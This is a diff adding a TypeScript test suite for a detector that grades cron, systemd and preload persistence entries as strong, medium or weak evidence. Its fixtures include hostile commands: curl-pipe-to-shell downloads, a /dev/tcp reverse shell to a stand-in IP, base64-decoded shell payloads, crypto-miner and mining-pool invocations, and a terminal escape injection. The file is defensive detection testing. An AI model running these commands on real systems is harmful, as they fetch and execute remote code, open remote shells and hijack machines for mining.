@@ -1,0 +1,162 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { CoalEvent } from '../model/event.js';
+import type { Signal } from '../model/signal.js';
+import { launchedPaths, persistence } from './persistence.js';
+import { evt, signalsOf } from './test-events.js';
+
+type Mechanism = NonNullable<CoalEvent['coalmine']['persistence']>['mechanism'];
+
+function entry(
+  command: string | undefined,
+  target?: string,
+  mechanism: Mechanism = 'cron',
+  path = '/var/spool/cron/crontabs/redis',
+) {
+  return evt('persistence-entry', {
+    ...(command !== undefined ? { process: { command_line: command } } : {}),
+    file: { path, line: command ?? `ExecStart=${target}` },
+    coalmine: {
+      ts: Date.UTC(2025, 2, 14),
+      format: 'crontab',
+      ref: { file: 'var/spool/cron/crontabs/redis', line: 5 },
+      persistence: target !== undefined ? { mechanism, target } : { mechanism },
+    },
+  });
+}
+
+const grade = (command: string | undefined, target?: string, mechanism?: Mechanism) =>
+  signalsOf(persistence, entry(command, target, mechanism)).map((s: Signal) => s.strength);
+
+test('every entry is a persistence signal tied to its target', () => {
+  const s = signalsOf(persistence, entry('/tmp/kdevtmpfsi -B > /dev/null 2>&1', '/tmp/kdevtmpfsi'));
+  assert.equal(s.length, 1);
+  assert.equal(s[0].kind, 'persistence');
+  assert.equal(s[0].class, 'persistence');
+  assert.equal(s[0].by, 'persistence:cron');
+  assert.equal(s[0].strength, 'strong');
+  assert.equal(s[0].subject?.persistenceTarget, '/tmp/kdevtmpfsi');
+  assert.match(
+    s[0].explanation,
+    /cron entry in \/var\/spool\/cron\/crontabs\/redis: "\/tmp\/kdevtmpfsi -B.*world-writable \/tmp\//,
+  );
+  assert.deepEqual(s[0].ref, { file: 'var/spool/cron/crontabs/redis', line: 5 });
+});
+
+test('entries that run from world-writable or hidden places are strong', () => {
+  for (const cmd of [
+    'cd /tmp && ./x',
+    'bash /var/tmp/.s.sh',
+    'sh -c "/dev/shm/sd -o x"',
+    'nohup /root/.configrc/a/upd >/dev/null 2>&1 &',
+    'env A=1 timeout 60 ~/.cache/.x/run',
+    '$HOME/.local/.hid/bin/k',
+  ])
+    assert.deepEqual(grade(cmd), ['strong'], cmd);
+});
+
+test('entries that download or decode code are strong; a fetched URL thrown away is medium', () => {
+  for (const cmd of [
+    'curl -fsSL http://203.0.113.47/d.sh | sh',
+    '(curl -fsSL http://x.example/d.sh || wget -q -O - http://x.example/d.sh) | bash',
+    'wget http://x.example/y -O /opt/y',
+    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+    'echo Y3VybCAt | base64 -d | sh',
+    'curl -s -o /dev/null http://198.51.100.7/ping',
+  ])
+    assert.deepEqual(grade(cmd), ['strong'], cmd);
+  for (const cmd of [
+    'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5d8f',
+    'wget -q -O - https://shop.example.com/wp-cron.php > /dev/null 2>&1',
+  ])
+    assert.deepEqual(grade(cmd), ['medium'], cmd);
+});
+
+test('entries naming a miner, a pool or a wallet are strong', () => {
+  assert.deepEqual(grade('/opt/x/xmrig --config=/opt/x/c.json'), ['strong']);
+  assert.deepEqual(grade('/usr/local/bin/app -o stratum+tcp://pool.supportxmr.com:443'), ['strong']);
+  const xmr = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
+  const s = signalsOf(persistence, entry(`/usr/local/bin/app ${xmr}`));
+  assert.match(s[0].explanation, /Monero address/);
+  assert.equal(s[0].strength, 'strong');
+});
+
+test('a preload entry is always strong', () => {
+  assert.deepEqual(grade(undefined, '/usr/local/lib/libprocesshider.so', 'preload'), ['strong']);
+});
+
+test('a source that gives only a target is graded by that target', () => {
+  assert.deepEqual(grade(undefined, '/dev/shm/.x/miner', 'systemd'), ['strong']);
+  assert.deepEqual(grade(undefined, '/usr/sbin/nginx', 'systemd'), ['weak']);
+});
+
+test('entries running programs from home or unusual directories are medium', () => {
+  assert.deepEqual(grade('/home/deploy/bin/backup.sh --all'), ['medium']);
+  assert.deepEqual(grade('"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'), ['medium']);
+  assert.deepEqual(grade('/mnt/data/job'), ['medium']);
+});
+
+test('ordinary entries are weak, including ones that only mention /tmp as an argument', () => {
+  for (const cmd of [
+    'cd / && run-parts --report /etc/cron.hourly',
+    'find /tmp -type f -mtime +7 -delete',
+    'rm -f /tmp/app.lock',
+    '/usr/bin/php /var/www/html/wp-cron.php',
+    'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )',
+    '/usr/bin/certbot renew --quiet',
+    'cd /srv/app && php artisan schedule:run >> /dev/null 2>&1',
+    'flock -n /tmp/report.lock /opt/reports/build --since 1d',
+  ])
+    assert.deepEqual(grade(cmd), ['weak'], cmd);
+});
+
+test('launched paths are the programs a command runs, not its arguments', () => {
+  assert.deepEqual(launchedPaths('cd /tmp && ./x -o y | tee /tmp/log'), ['/tmp/x', 'tee']);
+  assert.deepEqual(launchedPaths('sudo -u app nice -n 5 /opt/app/run'), ['/opt/app/run']);
+  assert.deepEqual(launchedPaths('python3 /srv/job.py --tmp /tmp/x'), ['python3', '/srv/job.py']);
+  assert.deepEqual(launchedPaths('x=$(/tmp/.a/b)'), ['/tmp/.a/b']);
+  assert.deepEqual(launchedPaths('flock -n /tmp/job.lock /opt/job/run'), ['/opt/job/run']);
+  assert.deepEqual(launchedPaths('exec -a [kworker] /dev/shm/k'), ['/dev/shm/k']);
+});
+
+test('a write to a persistence location is medium evidence against the writer, without a target', () => {
+  for (const path of [
+    '/var/spool/cron/crontabs/redis',
+    '/etc/cron.d/sysupdate',
+    '/etc/systemd/system/kworker.service',
+    '/home/ana/.config/systemd/user/x.service',
+    '/root/.bashrc',
+    '/home/ana/.ssh/authorized_keys',
+    '/etc/rc.local',
+    '/etc/init.d/network2',
+  ]) {
+    const s = signalsOf(persistence, evt('file-write', { process: { pid: 4115, name: 'crontab' }, file: { path } }));
+    assert.deepEqual(
+      s.map((x) => [x.kind, x.strength, x.subject?.persistenceTarget]),
+      [['persistence', 'medium', undefined]],
+      path,
+    );
+    assert.match(s[0].explanation, /crontab \(pid 4115\) wrote/);
+  }
+});
+
+test('package managers writing units are weak; other paths and the preload file (a Sigma rule) raise nothing', () => {
+  const dpkg = signalsOf(
+    persistence,
+    evt('file-write', { process: { pid: 9, name: 'dpkg' }, file: { path: '/lib/systemd/system/nginx.service' } }),
+  );
+  assert.deepEqual(
+    dpkg.map((x) => x.strength),
+    ['weak'],
+  );
+  for (const path of ['/var/log/app.log', '/etc/ld.so.preload', '/home/ana/notes.txt'])
+    assert.deepEqual(signalsOf(persistence, evt('file-write', { process: { pid: 1 }, file: { path } })), [], path);
+  assert.deepEqual(signalsOf(persistence, evt('file-write', { process: { pid: 1 } })), []);
+});
+
+test('hostile entries never throw and stay bounded', () => {
+  const s = signalsOf(persistence, entry(`${'; /tmp/x'.repeat(20_000)}\u001b]0;pwned\u0007`));
+  assert.equal(s[0].strength, 'strong');
+  assert.ok(s[0].explanation.length < 600);
+  assert.deepEqual(grade(''), ['weak']);
+});
